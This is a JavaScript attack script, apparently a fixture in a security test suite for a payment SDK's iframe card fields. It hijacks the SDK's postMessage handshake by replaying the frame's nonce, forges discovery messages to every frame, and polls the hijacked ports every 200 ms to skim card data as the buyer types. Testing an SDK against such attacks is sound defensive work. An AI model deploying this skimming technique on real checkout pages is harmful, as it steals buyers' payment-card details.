// Attack: a capture-phase message listener registered before the SDK answers every field
// frame's `hello` with a `connect` of its own (the nonce is in that message and in iframe.src),
// before the SDK can. Then it tries every command of the old protocol and of the frames' own on
// the port it got, and forges discovery messages to every frame.
(function () {
  var Real = (window.__RealMessageChannel = window.MessageChannel);
  window.addEventListener('message', function (e) {
    var d = e.data;
    if (!d || d.payjp !== 'hello' || !e.source) return;
    var iframe = Array.prototype.find.call(document.querySelectorAll('iframe'), function (f) { return f.contentWindow === e.source; });
    if (!iframe || window.__frameParams(iframe).get('mode') !== 'field') return;
    var params = window.__frameParams(iframe);
    var channel = window.__listeningPort('hijacked field');
    e.source.postMessage({ payjp: 'connect', nonce: d.nonce, options: {} }, e.origin, [channel.port2]);
    var mine = new Real();
    mine.port1.onmessage = function (m) { window.__skim('hijacked field, my port', m.data); };
    var port = channel.port1;
    [{ t: 'collect', id: 1 }, { t: 'link' }, { t: 'field', type: 'card' }, { t: 'values', id: 1 }].forEach(function (m) {
      port.postMessage(m);
    });
    port.postMessage({ t: 'link' }, [mine.port2]);
    // Discovery messages as the frames send them, from this page: refused by origin.
    var forged = new Real();
    forged.port1.onmessage = function (m) { window.__skim('forged bind', m.data); };
    for (var i = 0; i < window.frames.length; i++) {
      window.frames[i].postMessage({ tag: 'payjp-peer', kind: 'controller', instance: params.get('instance') }, '*');
      window.frames[i].postMessage({ tag: 'payjp-peer', kind: 'bind', instance: params.get('instance') }, '*', i === 0 ? [forged.port2] : []);
    }
    // A skimmer polls: ask again and again while the buyer types.
    var id = 2;
    setInterval(function () {
      port.postMessage({ t: 'collect', id: id++ });
      mine.port1.postMessage({ t: 'collect', id: id++ });
    }, 200);
  }, true);
})();
